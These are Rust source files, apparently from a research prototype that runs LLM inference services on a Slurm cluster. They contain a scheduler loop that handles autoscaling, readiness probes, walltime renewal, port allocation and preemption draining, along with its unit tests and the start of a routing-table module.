        let (_clock, _ctld, _routing, _demand, _launcher, scheduler) =
            setup(vec![svc("llama")], 2, 100);
        let s2 = scheduler.clone();
        // Hold the lock from another thread and call run() concurrently.
        let _guard = scheduler.lockfile.lock().unwrap();
        let h = std::thread::spawn(move || s2.run());
        h.join().unwrap();
        assert_eq!(scheduler.stats.skipped_runs.load(Ordering::Relaxed), 1);
        assert_eq!(scheduler.stats.runs.load(Ordering::Relaxed), 0);
    }

    #[test]
    fn ports_are_unique_across_instances() {
        let mut config = svc("llama");
        config.min_instances = 4;
        config.max_instances = 8;
        let (clock, _ctld, routing, _demand, _launcher, scheduler) =
            setup(vec![config], 4, 1);
        run_cycles(&scheduler, &clock, 5, 5_000);
        let entries = routing.entries_for("llama");
        assert_eq!(entries.len(), 4);
        let ports: HashSet<u16> = entries.iter().map(|e| e.port).collect();
        assert_eq!(ports.len(), 4, "no port collisions: {entries:?}");
        for e in &entries {
            assert!(PORT_RANGE.contains(&e.port));
        }
    }

    #[test]
    fn unhealthy_instance_is_pulled_from_rotation() {
        let (clock, _ctld, routing, _demand, launcher, scheduler) =
            setup(vec![svc("llama")], 2, 1);
        run_cycles(&scheduler, &clock, 3, 5_000);
        let job = routing.entries_for("llama")[0].job;
        launcher.unhealthy.lock().unwrap().insert(job);
        run_cycles(&scheduler, &clock, 1, 5_000);
        let (_, ready) = routing.counts("llama");
        assert_eq!(ready, 0, "unhealthy instance unrouted");
    }

    #[test]
    fn multiple_services_coexist() {
        let (clock, _ctld, routing, _demand, _launcher, scheduler) = setup(
            vec![svc("llama3-70b"), svc("qwen2-72b"), svc("mixtral-8x7b")],
            4,
            1,
        );
        run_cycles(&scheduler, &clock, 5, 5_000);
        for name in ["llama3-70b", "qwen2-72b", "mixtral-8x7b"] {
            assert_eq!(routing.counts(name), (1, 1), "{name}");
        }
    }

    #[test]
    fn preempted_instance_drains_requeues_and_relaunches() {
        let mut config = svc("llama");
        config.grace = 5_000;
        let (clock, ctld, routing, _demand, launcher, scheduler) =
            setup(vec![config], 1, 1);
        run_cycles(&scheduler, &clock, 3, 5_000); // t=15s: one ready instance
        let job = routing.entries_for("llama")[0].job;
        assert_eq!(routing.counts("llama").1, 1);
        // A non-preemptible batch job needs the whole node.
        let res = crate::slurm::Resources {
            cpus: 8,
            gpus: 4,
            mem_mb: 1_000,
        };
        {
            let mut c = ctld.lock().unwrap();
            c.sbatch(JobSpec::batch("train", res, 10_000, 60_000));
        }
        scheduler.run(); // notice arrives: the instance starts draining
        assert_eq!(scheduler.stats.preemption_notices.load(Ordering::Relaxed), 1);
        assert!(launcher.drained.lock().unwrap().contains(&job));
        let mut rng = Rng::new(9);
        assert!(
            routing.pick_ready("llama", &mut rng).is_none(),
            "draining instance must stop admitting new requests"
        );
        // Grace expires: the job is killed + requeued, batch takes the node.
        clock.advance_by(5_000);
        scheduler.run();
        assert_eq!(scheduler.stats.requeues.load(Ordering::Relaxed), 1);
        {
            let c = ctld.lock().unwrap();
            assert_eq!(c.job(job).unwrap().state, crate::slurm::JobState::Pending);
            assert!(c.job(job).unwrap().requeued);
        }
        // Batch finishes; the requeued job re-enters at the front and the
        // instance is relaunched under the same Slurm job id.
        clock.advance_by(10_000);
        scheduler.run();
        clock.advance_by(5_000);
        scheduler.run();
        let relaunches = launcher
            .launched
            .lock()
            .unwrap()
            .iter()
            .filter(|(j, _, _)| *j == job)
            .count();
        assert_eq!(relaunches, 2, "same job relaunched after the requeue");
        assert!(routing.counts("llama").1 >= 1, "service is serving again");
    }

    #[test]
    fn walltime_warning_triggers_proactive_drain() {
        let mut config = svc("llama"); // 600s walltime, 60s renew margin
        config.grace = 30_000;
        let (clock, _ctld, routing, _demand, launcher, scheduler) =
            setup(vec![config], 1, 1);
        run_cycles(&scheduler, &clock, 3, 5_000);
        let old = routing.entries_for("llama")[0].job;
        // Renewal replaces the job ~60s before walltime; the warning then
        // drains it ~30s before, so no stream sees a mid-decode kill.
        clock.advance_to(550_000);
        run_cycles(&scheduler, &clock, 8, 5_000); // through t=585s
        assert!(scheduler.stats.renewals.load(Ordering::Relaxed) >= 1);
        assert!(
            scheduler.stats.walltime_warnings.load(Ordering::Relaxed) >= 1,
            "warning must fire grace before the walltime kill"
        );
        assert!(launcher.drained.lock().unwrap().contains(&old));
        // The replacement serves; the old job dies at walltime.
        clock.advance_to(610_000);
        run_cycles(&scheduler, &clock, 2, 5_000);
        let entries = routing.entries_for("llama");
        assert_eq!(entries.len(), 1);
        assert_ne!(entries[0].job, old, "replacement took over");
        assert!(entries[0].ready);
    }

    #[test]
    fn gap_harvest_sizes_walltime_to_reserved_window() {
        let mut config = svc("llama"); // renew_margin 60s
        config.grace = 5_000;
        config.gap_walltime = 120_000;
        let (clock, ctld, routing, _demand, _launcher, scheduler) =
            setup(vec![config], 1, 1);
        let res2 = crate::slurm::Resources {
            cpus: 8,
            gpus: 2,
            mem_mb: 1_000,
        };
        {
            let mut c = ctld.lock().unwrap();
            // 2 of 4 GPUs busy with batch work for 200s...
            c.sbatch(JobSpec::batch("b1", res2, 200_000, 600_000));
            c.tick();
            c.drain_events();
            // ...and a blocked 4-GPU job reserving the node at t=200s.
            c.sbatch(JobSpec {
                priority: 200,
                ..JobSpec::service("blocker", 4, 600_000)
            });
        }
        scheduler.run();
        let jobs = scheduler.tracked_jobs("llama");
        assert_eq!(jobs.len(), 1);
        let spec = {
            let c = ctld.lock().unwrap();
            c.job(jobs[0]).unwrap().spec.clone()
        };
        assert!(spec.preemptible, "elastic jobs are preemptible");
        assert_eq!(spec.grace, 5_000);
        assert_eq!(
            spec.time_limit,
            200_000 - 60_000,
            "walltime sized to the estimated gap minus the placement margin"
        );
        assert_eq!(scheduler.stats.gap_jobs.load(Ordering::Relaxed), 1);
        // The gap-shaped job starts *inside* the reserved window instead
        // of queueing behind the blocker.
        run_cycles(&scheduler, &clock, 2, 5_000);
        assert_eq!(routing.counts("llama").0, 1);
        {
            let c = ctld.lock().unwrap();
            assert!(c.job(jobs[0]).unwrap().state.is_running());
        }
    }

    #[test]
    fn warm_standby_holds_capacity_while_demand_ramps() {
        let mut config = svc("llama");
        config.standby = 1;
        config.max_instances = 4;
        config.target_concurrency = 4.0;
        let (clock, _ctld, routing, demand, _launcher, scheduler) =
            setup(vec![config], 2, 1);
        run_cycles(&scheduler, &clock, 3, 5_000);
        assert_eq!(routing.counts("llama").0, 1, "flat demand: no standby");
        // Demand ramps: one new lasting request per cycle. The slope EMA
        // turns positive and the scheduler holds a hot standby instance
        // on top of the load-driven count.
        for _ in 0..4 {
            demand.begin("llama", clock.now_ms());
            run_cycles(&scheduler, &clock, 1, 5_000);
        }
        assert!(scheduler.stats.standby_ups.load(Ordering::Relaxed) >= 1);
        assert!(
            routing.counts("llama").0 >= 2,
            "standby instance on top of base capacity"
        );
    }

    #[test]
    fn scale_to_zero_and_cold_start() {
        let mut config = svc("rare");
        config.min_instances = 0;
        let (clock, _ctld, routing, demand, _launcher, scheduler) =
            setup(vec![config], 2, 1);
        run_cycles(&scheduler, &clock, 3, 5_000);
        assert_eq!(routing.counts("rare").0, 0, "scaled to zero when idle");
        // A request arrives: demand appears, instance spins up.
        demand.begin("rare", clock.now_ms());
        run_cycles(&scheduler, &clock, 3, 5_000);
        assert!(routing.counts("rare").1 >= 1, "cold start completed");
    }
}
