//! The scheduler script (§5.6) — the paper's core coordination loop.
//!
//! Runs on every keep-alive ping from the HPC Proxy (§5.5). Each run:
//!
//! 1. takes the **lock file** (a second concurrent run is skipped);
//! 2. drives a Slurm scheduling cycle and drains its events;
//! 3. reacts to job starts (allocate port, launch the service instance)
//!    and job ends (drop from the routing table, stop the instance);
//! 4. **probes** newly started instances until they are ready before
//!    marking them routable (cold start: model loading takes minutes);
//! 5. samples demand and **autoscales**: submits new service jobs when the
//!    average concurrency over the window exceeds the threshold, and lets
//!    excess jobs expire (or cancels them, per policy) when it falls;
//! 6. **renews** jobs approaching their walltime so the service survives
//!    Slurm's batch semantics (the "continuously replaced or extended"
//!    requirement from §4).
//!
//! Failure recovery (§7.1.1): NODE_FAIL/timeout ends flow through the same
//! reconciliation — the next run resubmits to reach the desired count.

use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, TryLockError};

use super::config::{ScaleDownPolicy, ServiceConfig};
use super::demand::DemandTracker;
use super::routing::{InstanceEntry, RoutingTable};
use crate::slurm::{JobId, JobSpec, SlurmEvent, Slurmctld};
use crate::util::clock::{Clock, Millis};
use crate::util::fairness::Priority;
use crate::util::rng::Rng;

/// Launches / probes / stops the actual service instance behind a Slurm
/// job. The coordinator's implementation spawns an in-process LLM server
/// with a simulated model-load delay; tests use mocks.
pub trait InstanceLauncher: Send + Sync {
    /// Called when Slurm starts the job on `node` with the allocated port.
    fn launch(&self, service: &ServiceConfig, job: JobId, node: &str, port: u16);

    /// Readiness probe: `Some(addr)` once the instance can serve requests.
    /// Called repeatedly until ready (paper: "periodically probes the newly
    /// submitted jobs until they are ready").
    fn probe(&self, job: JobId) -> Option<SocketAddr>;

    /// Liveness probe for an already-ready instance.
    fn healthy(&self, job: JobId) -> bool {
        let _ = job;
        true
    }

    /// Called when the job ended for any reason.
    fn stop(&self, job: JobId);
}

/// Port range the scheduler draws from (paper: random port, checked
/// against the routing table because Slurm has no network virtualization).
const PORT_RANGE: std::ops::Range<u16> = 30000..50000;

/// Counters for observability + tests.
#[derive(Default)]
pub struct SchedulerStats {
    pub runs: AtomicU64,
    pub skipped_runs: AtomicU64,
    pub submitted: AtomicU64,
    pub scale_ups: AtomicU64,
    pub scale_downs: AtomicU64,
    pub renewals: AtomicU64,
    pub recovered_failures: AtomicU64,
}

/// The scheduler script state.
pub struct ServiceScheduler {
    services: Vec<ServiceConfig>,
    ctld: Arc<Mutex<Slurmctld>>,
    routing: Arc<RoutingTable>,
    demand: Arc<DemandTracker>,
    clock: Arc<dyn Clock>,
    launcher: Arc<dyn InstanceLauncher>,
    /// The lock file: one scheduler run at a time.
    lockfile: Mutex<()>,
    inner: Mutex<Inner>,
    pub stats: SchedulerStats,
}

struct Inner {
    rng: Rng,
    /// Jobs we submitted, by service. Includes pending (not yet started).
    jobs: HashMap<JobId, JobMeta>,
    /// Ports allocated to active jobs (global uniqueness, per the paper's
    /// routing-table check; pending jobs hold ports before they appear in
    /// the routing table).
    ports: HashMap<JobId, u16>,
}

#[derive(Debug, Clone)]
struct JobMeta {
    service: String,
    /// Job is ready in the routing table.
    ready: bool,
    /// Marked for scale-down: do not renew.
    draining: bool,
}

impl ServiceScheduler {
    pub fn new(
        services: Vec<ServiceConfig>,
        ctld: Arc<Mutex<Slurmctld>>,
        routing: Arc<RoutingTable>,
        demand: Arc<DemandTracker>,
        clock: Arc<dyn Clock>,
        launcher: Arc<dyn InstanceLauncher>,
        seed: u64,
    ) -> Arc<ServiceScheduler> {
        Arc::new(ServiceScheduler {
            services,
            ctld,
            routing,
            demand,
            clock,
            launcher,
            lockfile: Mutex::new(()),
            inner: Mutex::new(Inner {
                rng: Rng::new(seed),
                jobs: HashMap::new(),
                ports: HashMap::new(),
            }),
            stats: SchedulerStats::default(),
        })
    }

    pub fn services(&self) -> &[ServiceConfig] {
        &self.services
    }

    /// One scheduling run. Invoked from the keep-alive hook; concurrent
    /// invocations are skipped via the lock file (paper §5.6).
    pub fn run(&self) {
        let _guard = match self.lockfile.try_lock() {
            Ok(g) => g,
            Err(TryLockError::WouldBlock) => {
                self.stats.skipped_runs.fetch_add(1, Ordering::Relaxed);
                return;
            }
            Err(TryLockError::Poisoned(e)) => e.into_inner(),
        };
        self.stats.runs.fetch_add(1, Ordering::Relaxed);
        let now = self.clock.now_ms();

        // 1. Drive Slurm and collect its events.
        let events = {
            let mut ctld = self.ctld.lock().unwrap();
            ctld.tick();
            ctld.drain_events()
        };
        self.apply_events(&events);

        // 2. Probe unready instances; health-check ready ones.
        self.probe_instances();

        // 3. Demand sampling + autoscaling reconciliation per service.
        for svc in &self.services {
            self.demand.sample(&svc.name, now);
            self.reconcile(svc, now);
        }
    }

    fn apply_events(&self, events: &[SlurmEvent]) {
        for event in events {
            match event {
                SlurmEvent::JobStarted { job, node } => {
                    let inner = self.inner.lock().unwrap();
                    let Some(meta) = inner.jobs.get(job).cloned() else {
                        continue; // not ours (background batch job)
                    };
                    let port = inner.ports.get(job).copied().unwrap_or(0);
                    drop(inner);
                    let svc = self
                        .services
                        .iter()
                        .find(|s| s.name == meta.service)
                        .expect("job for unknown service");
                    self.routing.insert(InstanceEntry {
                        service: meta.service.clone(),
                        job: *job,
                        node: node.clone(),
                        port,
                        addr: None,
                        ready: false,
                    });
                    self.launcher.launch(svc, *job, node, port);
                }
                SlurmEvent::JobEnded { job, state, .. } => {
                    let mut inner = self.inner.lock().unwrap();
                    if inner.jobs.remove(job).is_none() {
                        continue; // not ours
                    }
                    inner.ports.remove(job);
                    drop(inner);
                    self.routing.remove_job(*job);
                    self.launcher.stop(*job);
                    if matches!(state, crate::slurm::JobStateTag::NodeFail) {
                        self.stats.recovered_failures.fetch_add(1, Ordering::Relaxed);
                    }
                }
                SlurmEvent::NodeDown { .. } | SlurmEvent::NodeRestored { .. } => {}
            }
        }
    }

    fn probe_instances(&self) {
        let entries = self.routing.snapshot();
        for entry in entries {
            let is_ours = {
                let inner = self.inner.lock().unwrap();
                inner.jobs.contains_key(&entry.job)
            };
            if !is_ours {
                continue;
            }
            if !entry.ready {
                if let Some(addr) = self.launcher.probe(entry.job) {
                    self.routing.mark_ready(entry.job, addr);
                    let mut inner = self.inner.lock().unwrap();
                    if let Some(meta) = inner.jobs.get_mut(&entry.job) {
                        meta.ready = true;
                    }
                }
            } else if !self.launcher.healthy(entry.job) {
                // Failed health check: pull out of rotation; if it stays
                // unhealthy the job will be cancelled by reconciliation.
                self.routing.mark_unready(entry.job);
                let mut inner = self.inner.lock().unwrap();
                if let Some(meta) = inner.jobs.get_mut(&entry.job) {
                    meta.ready = false;
                }
            }
        }
    }

    fn reconcile(&self, svc: &ServiceConfig, now: Millis) {
        // Priority-aware demand: guaranteed (interactive) load must be
        // covered; sheddable (batch) load is discounted by the service's
        // batch_demand_weight — under overload the admission controller
        // sheds it instead of autoscaling chasing it.
        let guaranteed =
            self.demand
                .avg_concurrency_class(&svc.name, Priority::Interactive, now);
        let sheddable = self
            .demand
            .avg_concurrency_class(&svc.name, Priority::Batch, now);
        let desired = svc.desired_instances_classed(guaranteed, sheddable);

        // Count active (non-draining) jobs for this service.
        let (active, draining): (Vec<JobId>, Vec<JobId>) = {
            let inner = self.inner.lock().unwrap();
            let mut active = Vec::new();
            let mut draining = Vec::new();
            for (id, meta) in &inner.jobs {
                if meta.service == svc.name {
                    if meta.draining {
                        draining.push(*id);
                    } else {
                        active.push(*id);
                    }
                }
            }
            (active, draining)
        };
        let active_count = active.len() as u32;

        if active_count < desired {
            self.stats.scale_ups.fetch_add(1, Ordering::Relaxed);
            // First, un-drain any draining jobs (cheapest capacity).
            let mut needed = desired - active_count;
            {
                let mut inner = self.inner.lock().unwrap();
                for id in draining {
                    if needed == 0 {
                        break;
                    }
                    if let Some(meta) = inner.jobs.get_mut(&id) {
                        meta.draining = false;
                        needed -= 1;
                    }
                }
            }
            for _ in 0..needed {
                self.submit_instance(svc);
            }
        } else if active_count > desired {
            self.stats.scale_downs.fetch_add(1, Ordering::Relaxed);
            let excess = (active_count - desired) as usize;
            // Prefer retiring unready instances first (no service impact).
            let mut candidates = active.clone();
            candidates.sort_by_key(|id| {
                let inner = self.inner.lock().unwrap();
                let ready = inner.jobs.get(id).map(|m| m.ready).unwrap_or(false);
                (ready, *id) // unready first, then oldest
            });
            for id in candidates.into_iter().take(excess) {
                match svc.scale_down {
                    ScaleDownPolicy::Expire => {
                        let mut inner = self.inner.lock().unwrap();
                        if let Some(meta) = inner.jobs.get_mut(&id) {
                            meta.draining = true;
                        }
                    }
                    ScaleDownPolicy::Cancel => {
                        {
                            let mut ctld = self.ctld.lock().unwrap();
                            ctld.scancel(id);
                        }
                        // Clean up immediately — leaving the entry until
                        // the next run would route requests to a dead
                        // instance. The JobEnded event next run is a
                        // no-op (job already forgotten).
                        let mut inner = self.inner.lock().unwrap();
                        inner.jobs.remove(&id);
                        inner.ports.remove(&id);
                        drop(inner);
                        self.routing.remove_job(id);
                        self.launcher.stop(id);
                    }
                }
            }
        }

        // Renewals: replace running jobs nearing walltime (only if still
        // desired, i.e. not draining).
        let renew_ids: Vec<JobId> = {
            let ctld = self.ctld.lock().unwrap();
            let inner = self.inner.lock().unwrap();
            active
                .iter()
                .filter(|id| {
                    // Jobs cancelled by scale-down above are gone already.
                    let Some(meta) = inner.jobs.get(*id) else {
                        return false;
                    };
                    if meta.draining {
                        return false;
                    }
                    match ctld.job(**id).map(|j| j.state.clone()) {
                        Some(crate::slurm::JobState::Running { since, .. }) => {
                            let deadline = since + svc.time_limit;
                            deadline.saturating_sub(now) <= svc.renew_margin
                        }
                        _ => false,
                    }
                })
                .copied()
                .collect()
        };
        for old in renew_ids {
            self.stats.renewals.fetch_add(1, Ordering::Relaxed);
            // Submit the replacement first, then mark the old job draining
            // so it expires at walltime without being resubmitted.
            self.submit_instance(svc);
            let mut inner = self.inner.lock().unwrap();
            if let Some(meta) = inner.jobs.get_mut(&old) {
                meta.draining = true;
            }
        }
    }

    fn submit_instance(&self, svc: &ServiceConfig) {
        let port = {
            let mut inner = self.inner.lock().unwrap();
            Self::alloc_port(&mut inner, &self.routing)
        };
        let Some(port) = port else {
            log::error!(target: "scheduler", "port space exhausted for {}", svc.name);
            return;
        };
        let spec = JobSpec {
            comment: format!("service={} port={}", svc.name, port),
            ..JobSpec::service(&format!("svc-{}", svc.name), svc.gpus, svc.time_limit)
        };
        let job = {
            let mut ctld = self.ctld.lock().unwrap();
            ctld.sbatch(spec)
        };
        let mut inner = self.inner.lock().unwrap();
        inner.jobs.insert(
            job,
            JobMeta {
                service: svc.name.clone(),
                ready: false,
                draining: false,
            },
        );
        inner.ports.insert(job, port);
        self.stats.submitted.fetch_add(1, Ordering::Relaxed);
    }

    /// Random port with a routing-table (+ pending jobs) conflict check —
    /// the paper's exact algorithm.
    fn alloc_port(inner: &mut Inner, routing: &RoutingTable) -> Option<u16> {
        for _ in 0..256 {
            let candidate = PORT_RANGE.start
                + inner
                    .rng
                    .below((PORT_RANGE.end - PORT_RANGE.start) as u64) as u16;
            let in_pending = inner.ports.values().any(|p| *p == candidate);
            // Global uniqueness: the node isn't known until the job starts.
            let in_table = !routing
                .snapshot()
                .iter()
                .all(|e| e.port != candidate);
            if !in_pending && !in_table {
                return Some(candidate);
            }
        }
        None
    }

    /// Jobs currently tracked for a service (active + draining) — test
    /// introspection.
    pub fn tracked_jobs(&self, service: &str) -> Vec<JobId> {
        let inner = self.inner.lock().unwrap();
        inner
            .jobs
            .iter()
            .filter(|(_, m)| m.service == service)
            .map(|(id, _)| *id)
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::clock::SimClock;
    use std::collections::HashSet;
    use std::sync::atomic::AtomicU64;

    /// Mock launcher: instances become ready after a configurable number of
    /// probes (simulating model-load time).
    struct MockLauncher {
        probes_until_ready: u64,
        probe_counts: Mutex<HashMap<JobId, u64>>,
        launched: Mutex<Vec<(JobId, String, u16)>>,
        stopped: Mutex<Vec<JobId>>,
        next_port: AtomicU64,
        unhealthy: Mutex<HashSet<JobId>>,
    }

    impl MockLauncher {
        fn new(probes_until_ready: u64) -> Arc<MockLauncher> {
            Arc::new(MockLauncher {
                probes_until_ready,
                probe_counts: Mutex::new(HashMap::new()),
                launched: Mutex::new(Vec::new()),
                stopped: Mutex::new(Vec::new()),
                next_port: AtomicU64::new(20000),
                unhealthy: Mutex::new(HashSet::new()),
            })
        }
    }

    impl InstanceLauncher for MockLauncher {
        fn launch(&self, _svc: &ServiceConfig, job: JobId, node: &str, port: u16) {
            self.launched
                .lock()
                .unwrap()
                .push((job, node.to_string(), port));
        }

        fn probe(&self, job: JobId) -> Option<SocketAddr> {
            let mut counts = self.probe_counts.lock().unwrap();
            let count = counts.entry(job).or_insert(0);
            *count += 1;
            if *count >= self.probes_until_ready {
                let port = self.next_port.fetch_add(1, Ordering::Relaxed) as u16;
                Some(SocketAddr::from(([127, 0, 0, 1], port)))
            } else {
                None
            }
        }

        fn healthy(&self, job: JobId) -> bool {
            !self.unhealthy.lock().unwrap().contains(&job)
        }

        fn stop(&self, job: JobId) {
            self.stopped.lock().unwrap().push(job);
        }
    }

    fn setup(
        services: Vec<ServiceConfig>,
        nodes: usize,
        probes_until_ready: u64,
    ) -> (
        Arc<SimClock>,
        Arc<Mutex<Slurmctld>>,
        Arc<RoutingTable>,
        Arc<DemandTracker>,
        Arc<MockLauncher>,
        Arc<ServiceScheduler>,
    ) {
        let clock = SimClock::new();
        let ctld = Arc::new(Mutex::new(Slurmctld::with_gpu_nodes(clock.clone(), nodes)));
        let routing = Arc::new(RoutingTable::new());
        let demand = Arc::new(DemandTracker::new(60_000));
        let launcher = MockLauncher::new(probes_until_ready);
        let scheduler = ServiceScheduler::new(
            services,
            ctld.clone(),
            routing.clone(),
            demand.clone(),
            clock.clone(),
            launcher.clone(),
            42,
        );
        (clock, ctld, routing, demand, launcher, scheduler)
    }

    fn svc(name: &str) -> ServiceConfig {
        ServiceConfig {
            time_limit: 600_000,
            renew_margin: 60_000,
            ..ServiceConfig::new(name, "test-model", 2)
        }
    }

    /// Run n scheduler passes, advancing the clock between them.
    fn run_cycles(scheduler: &ServiceScheduler, clock: &SimClock, n: usize, step_ms: u64) {
        for _ in 0..n {
            scheduler.run();
            clock.advance_by(step_ms);
        }
    }

    #[test]
    fn maintains_min_instances() {
        let (clock, _ctld, routing, _demand, _launcher, scheduler) =
            setup(vec![svc("llama")], 2, 2);
        run_cycles(&scheduler, &clock, 5, 5_000);
        let (total, ready) = routing.counts("llama");
        assert_eq!(total, 1, "one instance maintained");
        assert_eq!(ready, 1, "instance became ready after probes");
    }

    #[test]
    fn readiness_gates_routing() {
        let (clock, _ctld, routing, _demand, _launcher, scheduler) =
            setup(vec![svc("llama")], 2, 4);
        // After 2 runs the job started but needs 4 probes to be ready.
        run_cycles(&scheduler, &clock, 2, 5_000);
        let (total, ready) = routing.counts("llama");
        assert_eq!(total, 1);
        assert_eq!(ready, 0, "not ready until probes succeed");
        run_cycles(&scheduler, &clock, 4, 5_000);
        assert_eq!(routing.counts("llama").1, 1);
    }

    #[test]
    fn scales_up_under_load_and_down_when_idle() {
        let mut config = svc("llama");
        config.max_instances = 3;
        config.target_concurrency = 4.0;
        config.scale_down = ScaleDownPolicy::Cancel;
        let (clock, _ctld, routing, demand, _launcher, scheduler) =
            setup(vec![config], 4, 1);
        run_cycles(&scheduler, &clock, 3, 5_000);
        assert_eq!(routing.counts("llama").0, 1);

        // Sustained load: 10 concurrent requests held across the window.
        for _ in 0..10 {
            demand.begin("llama", clock.now_ms());
        }
        run_cycles(&scheduler, &clock, 20, 5_000);
        let (total, _) = routing.counts("llama");
        assert_eq!(total, 3, "scaled to ceil(10/4)=3");

        // Load drains; scale back to min.
        for _ in 0..10 {
            demand.end("llama", clock.now_ms());
        }
        run_cycles(&scheduler, &clock, 30, 5_000);
        assert_eq!(routing.counts("llama").0, 1, "scaled down to min");
        assert!(scheduler.stats.scale_downs.load(Ordering::Relaxed) > 0);
    }

    #[test]
    fn recovers_from_node_failure() {
        let (clock, ctld, routing, _demand, _launcher, scheduler) =
            setup(vec![svc("llama")], 2, 1);
        run_cycles(&scheduler, &clock, 3, 5_000);
        let entry = &routing.entries_for("llama")[0];
        let node = entry.node.clone();
        {
            let mut c = ctld.lock().unwrap();
            c.fail_node(&node);
        }
        // Next runs: job death observed, replacement submitted + started
        // on the surviving node.
        run_cycles(&scheduler, &clock, 4, 5_000);
        let entries = routing.entries_for("llama");
        assert_eq!(entries.len(), 1, "replacement instance");
        assert_ne!(entries[0].node, node);
        assert!(entries[0].ready);
        assert_eq!(scheduler.stats.recovered_failures.load(Ordering::Relaxed), 1);
    }

    #[test]
    fn renews_jobs_before_walltime() {
        let (clock, ctld, routing, _demand, _launcher, scheduler) =
            setup(vec![svc("llama")], 2, 1);
        run_cycles(&scheduler, &clock, 3, 5_000);
        let old_job = routing.entries_for("llama")[0].job;
        // Advance close to walltime (600s limit, 60s margin).
        clock.advance_to(560_000);
        run_cycles(&scheduler, &clock, 4, 5_000);
        assert!(scheduler.stats.renewals.load(Ordering::Relaxed) >= 1);
        // Old job expires at walltime; replacement keeps serving.
        clock.advance_to(620_000);
        run_cycles(&scheduler, &clock, 3, 5_000);
        let entries = routing.entries_for("llama");
        assert_eq!(entries.len(), 1);
        assert_ne!(entries[0].job, old_job, "replacement took over");
        assert!(entries[0].ready);
        {
            let c = ctld.lock().unwrap();
            assert!(!c.job(old_job).unwrap().state.is_active());
        }
    }

    #[test]
    fn lockfile_skips_concurrent_runs() {
        let (_clock, _ctld, _routing, _demand, _launcher, scheduler) =
            setup(vec![svc("llama")], 2, 100);
        let s2 = scheduler.clone();
        // Hold the lock from another thread and call run() concurrently.
        let _guard = scheduler.lockfile.lock().unwrap();
        let h = std::thread::spawn(move || s2.run());
        h.join().unwrap();
        assert_eq!(scheduler.stats.skipped_runs.load(Ordering::Relaxed), 1);
        assert_eq!(scheduler.stats.runs.load(Ordering::Relaxed), 0);
    }

    #[test]
    fn ports_are_unique_across_instances() {
        let mut config = svc("llama");
        config.min_instances = 4;
        config.max_instances = 8;
        let (clock, _ctld, routing, _demand, _launcher, scheduler) =
            setup(vec![config], 4, 1);
        run_cycles(&scheduler, &clock, 5, 5_000);
        let entries = routing.entries_for("llama");
        assert_eq!(entries.len(), 4);
        let ports: HashSet<u16> = entries.iter().map(|e| e.port).collect();
        assert_eq!(ports.len(), 4, "no port collisions: {entries:?}");
        for e in &entries {
            assert!(PORT_RANGE.contains(&e.port));
        }
    }

    #[test]
    fn unhealthy_instance_is_pulled_from_rotation() {
        let (clock, _ctld, routing, _demand, launcher, scheduler) =
            setup(vec![svc("llama")], 2, 1);
        run_cycles(&scheduler, &clock, 3, 5_000);
        let job = routing.entries_for("llama")[0].job;
        launcher.unhealthy.lock().unwrap().insert(job);
        run_cycles(&scheduler, &clock, 1, 5_000);
        let (_, ready) = routing.counts("llama");
        assert_eq!(ready, 0, "unhealthy instance unrouted");
    }

    #[test]
    fn multiple_services_coexist() {
        let (clock, _ctld, routing, _demand, _launcher, scheduler) = setup(
            vec![svc("llama3-70b"), svc("qwen2-72b"), svc("mixtral-8x7b")],
            4,
            1,
        );
        run_cycles(&scheduler, &clock, 5, 5_000);
        for name in ["llama3-70b", "qwen2-72b", "mixtral-8x7b"] {
            assert_eq!(routing.counts(name), (1, 1), "{name}");
        }
    }

    #[test]
    fn scale_to_zero_and_cold_start() {
        let mut config = svc("rare");
        config.min_instances = 0;
        let (clock, _ctld, routing, demand, _launcher, scheduler) =
            setup(vec![config], 2, 1);
        run_cycles(&scheduler, &clock, 3, 5_000);
        assert_eq!(routing.counts("rare").0, 0, "scaled to zero when idle");
        // A request arrives: demand appears, instance spins up.
        demand.begin("rare", clock.now_ms());
        run_cycles(&scheduler, &clock, 3, 5_000);
        assert!(routing.counts("rare").1 >= 1, "cold start completed");
    }
}
