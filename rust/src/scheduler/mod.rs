//! The paper's scheduler (§5.6): service-pool maintenance on top of Slurm.
//!
//! * [`routing`] — the routing table the Cloud Interface Script reads.
//! * [`demand`] — request-volume measurement for autoscaling.
//! * [`config`] — per-service configuration (instance bounds, thresholds).
//! * [`script`] — the scheduling loop itself (runs on keep-alive pings).

mod config;
mod demand;
mod routing;
mod script;

pub use config::{ScaleDownPolicy, ServiceConfig};
pub use demand::DemandTracker;
pub use routing::{InstanceEntry, RoutingTable};
pub use script::{InstanceLauncher, SchedulerStats, ServiceScheduler};
