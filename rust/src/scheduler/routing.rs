//! The routing table maintained by the scheduler script (§5.6).
//!
//! One entry per active service job: service name, Slurm job id, node and
//! port. The Cloud Interface Script consults it to forward each incoming
//! request to a *ready* instance chosen uniformly at random (the paper's
//! "random load balancing"). Ports are allocated by the scheduler at submit
//! time and checked against the table, because Slurm provides no network
//! virtualization — two jobs on one node must not collide (§5.6).

use std::collections::HashSet;
use std::net::SocketAddr;
use std::sync::RwLock;

use crate::slurm::JobId;
use crate::util::rng::Rng;

/// One service-instance entry.
#[derive(Debug, Clone)]
pub struct InstanceEntry {
    pub service: String,
    pub job: JobId,
    pub node: String,
    /// The port the scheduler allocated for the job (simulated network
    /// namespace on `node`).
    pub port: u16,
    /// Actual reachable address of the in-process LLM server once launched.
    pub addr: Option<SocketAddr>,
    /// Set by the scheduler's readiness probes; requests are only routed to
    /// ready instances.
    pub ready: bool,
}

/// Thread-safe routing table (scheduler writes, cloud interface reads).
#[derive(Default)]
pub struct RoutingTable {
    entries: RwLock<Vec<InstanceEntry>>,
    /// Jobs draining under a preemption notice / walltime warning: the
    /// entry stays (in-flight streams finish within the grace budget)
    /// but no new requests are admitted. Kept out of `InstanceEntry` so
    /// snapshots stay cheap and the flag can't go stale in clones.
    draining: RwLock<HashSet<JobId>>,
}

impl RoutingTable {
    pub fn new() -> RoutingTable {
        RoutingTable::default()
    }

    /// Insert a new instance entry (not yet ready).
    pub fn insert(&self, entry: InstanceEntry) {
        let mut entries = self.entries.write().unwrap();
        debug_assert!(
            !entries.iter().any(|e| e.job == entry.job),
            "duplicate job {} in routing table",
            entry.job
        );
        entries.push(entry);
    }

    /// Remove the entry for a finished job. Returns true if present.
    pub fn remove_job(&self, job: JobId) -> bool {
        self.draining.write().unwrap().remove(&job);
        let mut entries = self.entries.write().unwrap();
        let before = entries.len();
